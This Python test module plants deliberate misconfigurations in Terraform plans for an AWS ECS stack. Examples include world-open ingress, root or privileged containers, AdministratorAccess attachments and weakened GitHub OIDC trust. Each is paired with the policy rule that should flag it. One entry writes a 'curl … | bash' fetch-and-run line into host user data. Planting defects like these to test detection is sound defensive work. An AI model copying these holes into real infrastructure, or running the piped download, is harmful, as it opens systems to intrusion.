"""Defects of a stack, and the one rule that must tell each."""

from __future__ import annotations

from .planting import (
    Defect,
    add_statement,
    container,
    document,
    drop,
    inside,
    more,
    put,
    statement,
    trust,
    user_data,
    without,
)

INGRESS, EGRESS = "aws_vpc_security_group_ingress_rule", "aws_vpc_security_group_egress_rule"
TEMPLATE, GROUP = "aws_launch_template", "aws_codedeploy_deployment_group"
ISSUER = "token.actions.githubusercontent.com"
PIPE = 'module.pipeline["hitless-prod"].aws_iam_role_policy.'
ASIDE = "hitless-prod/terraform.tfstate"
DOOR = {"cidr_ipv6": None, "ip_protocol": "tcp", "referenced_security_group_id": None}

# Those that a review would try first, and scanners mostly miss. The fourteenth, a field of CodeDeploy's that Terraform
# takes back, is no part of a plan: `test_modules.py` plants it in the sources.
FIRST: dict[str, tuple[str, Defect]] = {
    "metadata without a token": (
        "metadata_is_out_of_containers_reach",
        inside("prod", TEMPLATE, "", "metadata_options.0.http_tokens", "optional"),
    ),
    "metadata one hop further": (
        "metadata_is_out_of_containers_reach",
        inside("prod", TEMPLATE, "", "metadata_options.0.http_put_response_hop_limit", 2),
    ),
    "an old TLS policy": (
        "users_of_prod_are_served_over_tls",
        put("prod", "aws_lb_listener", "", ssl_policy="ELBSecurityPolicy-2016-08"),
    ),
    "every port of a host": (
        "the_load_balancer_reaches_dynamic_ports",
        put("prod", INGRESS, "from_load_balancer", from_port=0),
    ),
    "hosts open to the world": (
        "only_the_load_balancer_reaches_hosts",
        put("prod", INGRESS, "from_load_balancer", cidr_ipv4="0.0.0.0/0"),
    ),
    "the container's port only": (
        "the_load_balancer_reaches_dynamic_ports",
        put("prod", INGRESS, "from_load_balancer", from_port=8080, to_port=8080),
    ),
    "an endpoint nobody finds": (
        "hosts_find_aws_inside",
        put("prod", "aws_vpc_endpoint", '["ecs"]', private_dns_enabled=False),
    ),
    "a task that is root": ("containers_are_nobody", container(user="0")),
    "a capability added": (
        "containers_have_no_capabilities",
        container(linuxParameters={"capabilities": {"add": ["SYS_ADMIN"], "drop": ["ALL"]}}),
    ),
    "the latest image": (
        "images_are_named_by_digest",
        container(image="123456789012.dkr.ecr.us-east-1.amazonaws.com/hitless-prod:latest"),
    ),
    "evidence under GOVERNANCE": (
        "evidence_cannot_be_deleted",
        inside(
            "bootstrap",
            "aws_s3_bucket_object_lock_configuration",
            "",
            "rule.0.default_retention.0.mode",
            "GOVERNANCE",
        ),
    ),
    "a state without a lock": (
        "states_are_locked",
        lambda stacks: stacks["bootstrap"].outputs["backends"]["hitless-dev"].update(use_lockfile=False),
    ),
    "a task trusted for any account": (
        "tasks_are_trusted_for_this_account_only",
        document(
            "prod", "aws_iam_role", ".task", "assume_role_policy", lambda said: said["Statement"][0].pop("Condition")
        ),
    ),
}
NETWORK: list[tuple[str, Defect]] = [
    ("the_load_balancer_reaches_dynamic_ports", put("dev", INGRESS, "from_load_balancer", from_port=49153)),
    ("only_the_load_balancer_reaches_hosts", put("dev", INGRESS, "from_load_balancer", cidr_ipv6="::/0")),
    (
        "the_world_uses_front_doors_only",
        more("prod", INGRESS, "module.traffic.more", cidr_ipv4="0.0.0.0/0", from_port=8443, to_port=8443, **DOOR),
    ),
    (
        "nobody_logs_in_over_the_network",
        more("prod", INGRESS, "module.network.ssh", cidr_ipv4="10.0.0.0/8", from_port=22, to_port=22, **DOOR),
    ),
    ("nobody_logs_in_over_the_network", put("prod", TEMPLATE, "", key_name="mine")),
    ("nothing_leaves_for_anywhere", put("prod", EGRESS, "to_host", ip_protocol="-1")),
    ("nothing_leaves_for_anywhere", put("dev", EGRESS, "to_host", cidr_ipv4="0.0.0.0/0")),
    ("hosts_find_aws_inside", without("dev", "aws_vpc_endpoint", '["ecr.dkr"]')),
    (
        "endpoints_serve_our_account_only",
        document("prod", "aws_vpc_endpoint", '["logs"]', "policy", lambda said: said["Statement"][0].pop("Condition")),
    ),
    (
        "endpoints_serve_our_account_only",
        document("dev", "aws_vpc_endpoint", ".s3", "policy", lambda said: said["Statement"][0].update(Resource="*")),
    ),
    ("no_subnet_gives_public_addresses", put("prod", "aws_subnet", '"]', map_public_ip_on_launch=True)),
    ("traffic_is_written_down", put("prod", "aws_flow_log", "", traffic_type="ACCEPT")),
]
HOSTS: list[tuple[str, Defect]] = [
    (
        "volumes_are_encrypted_with_our_key",
        inside("prod", TEMPLATE, "", "block_device_mappings.0.ebs.0.encrypted", "false"),
    ),
    (
        "volumes_are_encrypted_with_our_key",
        inside("dev", TEMPLATE, "", "block_device_mappings.0.ebs.0.kms_key_id", None),
    ),
    ("hosts_install_nothing_at_boot", user_data(lambda told: told + "\nyum -y update\n")),
    ("hosts_install_nothing_at_boot", user_data(lambda told: told + "\ncurl https://example.com/get | bash\n")),
    (
        "the_agent_refuses_privileged_containers",
        user_data(lambda told: told.replace("ECS_DISABLE_PRIVILEGED=true", "ECS_DISABLE_PRIVILEGED=false")),
    ),
    (
        "hosts_of_prod_are_chosen_by_hand",
        lambda stacks: stacks["prod"].resources.append(
            {"address": "data.aws_ssm_parameter.ami", "mode": "data", "type": "aws_ssm_parameter", "values": {}}
        ),
    ),
    (
        "a_refresh_launches_before_it_terminates",
        inside("prod", "aws_autoscaling_group", "", "instance_refresh.0.preferences.0.max_healthy_percentage", 100),
    ),
    (
        "hosts_leave_empty",
        inside("prod", "aws_ecs_capacity_provider", "", "auto_scaling_group_provider.0.managed_draining", "DISABLED"),
    ),
]
TASKS: list[tuple[str, Defect]] = [
    ("containers_are_nobody", container(user="root")),
    ("containers_have_no_capabilities", container(linuxParameters={"capabilities": {"add": [], "drop": []}})),
    ("containers_are_not_privileged", container(privileged=True)),
    ("containers_are_not_privileged", put("prod", "aws_ecs_task_definition", "", network_mode="host")),
    ("containers_write_nothing_on_their_disk", container(readonlyRootFilesystem=False)),
    ("tags_never_move", put("prod", "aws_ecr_repository", "", image_tag_mutability="MUTABLE")),
    ("tags_never_move", inside("prod", "aws_ecr_repository", "", "image_scanning_configuration.0.scan_on_push", False)),
    ("nobody_gets_a_shell_in_a_container", put("prod", "aws_ecs_service", "", enable_execute_command=True)),
    ("two_tasks_fit_on_a_host", container(portMappings=[{"containerPort": 8080, "hostPort": 8080}])),
]
RELEASES: list[tuple[str, Defect]] = [
    ("users_of_prod_are_served_over_tls", put("prod", "aws_lb_listener", '["test"]', protocol="HTTP")),
    ("requests_are_read_strictly", put("prod", "aws_lb", "", desync_mitigation_mode="monitor")),
    ("prod_is_not_deleted_by_accident", put("prod", "aws_lb", "", enable_deletion_protection=False)),
    ("prod_is_not_deleted_by_accident", put("prod", "aws_ecr_repository", "", force_delete=True)),
    ("requests_to_prod_are_filtered_and_logged", without("prod", "aws_wafv2_web_acl_association", "")),
    ("requests_to_prod_are_filtered_and_logged", inside("prod", "aws_lb", "", "access_logs.0.enabled", False)),
    (
        "a_bad_release_comes_back_by_itself",
        inside("prod", GROUP, "", "auto_rollback_configuration.0.events", ["DEPLOYMENT_FAILURE"]),
    ),
    ("alarms_watch_every_release", inside("prod", GROUP, "", "alarm_configuration.0.enabled", False)),
    ("alarms_watch_every_release", inside("dev", GROUP, "", "alarm_configuration.0.ignore_poll_alarm_failure", True)),
    (
        "a_release_is_tried_before_users_see_it",
        inside("prod", GROUP, "", "load_balancer_info.0.target_group_pair_info.0.test_traffic_route", []),
    ),
    (
        "a_release_is_tried_before_users_see_it",
        put("prod", GROUP, "", deployment_config_name="CodeDeployDefault.ECSAllAtOnce"),
    ),
    (
        "the_way_back_stays_open",
        inside(
            "prod",
            GROUP,
            "",
            "blue_green_deployment_config.0.terminate_blue_instances_on_deployment_success.0.termination_wait_time_in_minutes",
            0,
        ),
    ),
    ("somebody_hears_of_alarms_in_prod", put("prod", "aws_cloudwatch_metric_alarm", "elb_5xx", alarm_actions=[])),
    ("somebody_hears_of_alarms_in_prod", without("prod", "aws_sns_topic_subscription", "")),
]
KEEPING: list[tuple[str, Defect]] = [
    ("evidence_cannot_be_deleted", without("bootstrap", "aws_s3_bucket_object_lock_configuration", "")),
    (
        "states_are_locked",
        lambda stacks: stacks["bootstrap"].outputs["backends"]["hitless-dev"].update(key=ASIDE),
    ),
    (
        "buckets_are_private",
        put("bootstrap", "aws_s3_bucket_public_access_block", "", restrict_public_buckets=False),
    ),
    (
        "buckets_speak_tls_only",
        document(
            "bootstrap", "aws_s3_bucket_policy", "", "policy", lambda said: said["Statement"][0].update(Effect="Allow")
        ),
    ),
    (
        "buckets_but_the_logs_use_our_key",
        inside(
            "bootstrap",
            "aws_s3_bucket_server_side_encryption_configuration",
            "module.audit.aws_s3_bucket_server_side_encryption_configuration.this",
            "rule.0.apply_server_side_encryption_by_default.0.sse_algorithm",
            "AES256",
        ),
    ),
    (
        "buckets_keep_history",
        inside("bootstrap", "aws_s3_bucket_versioning", "", "versioning_configuration.0.status", "Suspended"),
    ),
    ("leases_survive", put("bootstrap", "aws_dynamodb_table", "", hash_key="id")),
    ("leases_survive", put("bootstrap", "aws_dynamodb_table", "", deletion_protection_enabled=False)),
    ("logs_are_kept_a_year_and_encrypted", put("prod", "aws_cloudwatch_log_group", "flow", retention_in_days=30)),
    ("logs_are_kept_a_year_and_encrypted", put("dev", "aws_cloudwatch_log_group", "flow", kms_key_id=None)),
    ("keys_rotate_and_go_slowly", put("prod", "aws_kms_key", "", enable_key_rotation=False)),
    (
        "keys_are_for_named_principals",
        statement("prod", "", "EncryptVolumes", kind="aws_kms_key", Principal={"AWS": "*"}),
    ),
    ("logs_use_the_key_for_named_groups", statement("prod", "", "EncryptLogs", kind="aws_kms_key", Condition={})),
    (
        "sessions_are_written_down",
        document(
            "bootstrap",
            "aws_ssm_document",
            "",
            "content",
            lambda said: said["inputs"].update(cloudWatchLogGroupName=""),
        ),
    ),
    ("sessions_are_written_down", statement("prod", "aws_iam_role_policy.host", "WriteSessionsDown", Sid="Other")),
    (
        "sessions_are_encrypted_with_a_key_of_their_own",
        document("bootstrap", "aws_ssm_document", "", "content", lambda said: said["inputs"].pop("kmsKeyId")),
    ),
    (
        "sessions_are_encrypted_with_a_key_of_their_own",
        statement("prod", "aws_iam_role_policy.host", "DecryptSessions", Sid="Other"),
    ),
    ("sessions_are_encrypted_with_a_key_of_their_own", without("prod", "aws_vpc_endpoint", '["kms"]')),
    ("notices_are_encrypted", put("prod", "aws_sns_topic", "", kms_master_key_id=None)),
]
IDENTITY: list[tuple[str, Defect]] = [
    ("there_are_no_users_and_no_keys", more("bootstrap", "aws_iam_access_key", "aws_iam_access_key.ci")),
    ("there_are_no_users_and_no_keys", more("prod", "aws_iam_user", "aws_iam_user.me")),
    (
        "no_policy_of_aws_is_attached",
        more("prod", "aws_iam_role_policy_attachment", "x", policy_arn="arn:aws:iam::aws:policy/AdministratorAccess"),
    ),
    (
        "roles_are_passed_to_one_service",
        statement("prod", "codedeploy.aws_iam_role_policy.this", "PassTaskRoles", Resource="*"),
    ),
    ("roles_are_passed_to_one_service", statement("bootstrap", PIPE + "deploy", "PassTaskRoles", Condition={})),
    (
        "the_application_is_not_allowed_anything",
        more("prod", "aws_iam_role_policy", "module.ecs_service.aws_iam_role_policy.task", policy='{"Statement": []}'),
    ),
    ("hosts_serve_one_cluster", statement("prod", "aws_iam_role_policy.host", "JoinCluster", Resource="*")),
    (
        "codedeploy_moves_this_service_only",
        statement("prod", "codedeploy.aws_iam_role_policy.this", "ShiftWeights", Resource="*"),
    ),
    ("roles_of_prod_stay_within_the_boundary", put("prod", "aws_iam_role", "host", permissions_boundary=None)),
]
PIPELINES: list[tuple[str, Defect]] = [
    ("tokens_are_meant_for_aws", trust("apply", lambda c: c["StringEquals"].pop(f"{ISSUER}:aud"))),
    ("each_role_is_one_github_environment", trust("apply", lambda c: c["StringEquals"].pop(f"{ISSUER}:sub"))),
    (
        "each_role_is_one_github_environment",
        trust("deploy", lambda c: c["StringEquals"].update({f"{ISSUER}:sub": "repo:octo-org/*"})),
    ),
    (
        "each_role_is_one_github_environment",
        trust("deploy", lambda c: c["StringEquals"][f"{ISSUER}:sub"].append("repo:octo-org/hitless:environment:other")),
    ),
    ("each_role_is_one_github_environment", trust("plan", lambda c: c["StringEquals"][f"{ISSUER}:sub"].pop())),
    ("a_recycled_name_is_nobody", trust("build", lambda c: c["StringEquals"].pop(f"{ISSUER}:repository_id"))),
    (
        "only_the_main_branchs_workflow_writes",
        trust("apply", lambda c: c["StringEquals"].pop(f"{ISSUER}:job_workflow_ref")),
    ),
    (
        "claims_are_compared_exactly",
        trust("apply", lambda c: c.update({"ForAllValues:StringEquals": {f"{ISSUER}:actor": ["me"]}})),
    ),
    ("build_can_only_push", add_statement("bootstrap", PIPE + "build", Action="ecr:BatchDeleteImage")),
    ("build_can_only_push", add_statement("bootstrap", PIPE + "build", Action="iam:GetRole")),
    (
        "deploy_touches_neither_traffic_nor_hosts",
        add_statement("bootstrap", PIPE + "deploy", Action="ecs:UpdateService"),
    ),
    (
        "deploy_touches_neither_traffic_nor_hosts",
        add_statement("bootstrap", PIPE + "deploy", Action="elasticloadbalancing:ModifyListener"),
    ),
    ("revisions_are_never_privileged", statement("bootstrap", PIPE + "deploy", "RegisterARevision", Condition={})),
    ("plan_writes_the_lock_alone", add_statement("bootstrap", PIPE + "plan", Action="ec2:CreateTags")),
    ("plan_writes_the_lock_alone", add_statement("bootstrap", PIPE + "plan", Action="secretsmanager:GetSecretValue")),
    (
        "roles_are_made_within_the_boundary",
        statement("bootstrap", PIPE + "apply", "MakeRolesWithinTheBoundary", Condition={}),
    ),
    ("the_state_is_never_deleted", add_statement("bootstrap", PIPE + "apply_runbook", Action="s3:DeleteObject")),
    (
        "evidence_is_put_and_left",
        statement("bootstrap", PIPE + "deploy", "KeepEvidence", Action=["s3:PutObject", "s3:GetObject"]),
    ),
    (
        "evidence_is_put_and_left",
        statement("bootstrap", PIPE + "deploy", "KeepEvidence", Resource="arn:aws:s3:::web/*"),
    ),
    (
        "apply_can_never",
        document("bootstrap", "aws_iam_policy", "guard", "policy", drop("NoUsersNoKeysNoWayOut")),
    ),
    (
        "apply_cannot_change_itself",
        document("bootstrap", "aws_iam_policy", "guard", "policy", drop("NotItselfNorItsBoundary")),
    ),
    ("nobody_administers", add_statement("prod", "aws_iam_role_policy.host", Action="*")),
]
OTHERS = [*NETWORK, *HOSTS, *TASKS, *RELEASES, *KEEPING, *IDENTITY, *PIPELINES]
DEFECTS = {**FIRST, **{f"{wanted}-{n}": (wanted, defect) for n, (wanted, defect) in enumerate(OTHERS)}}
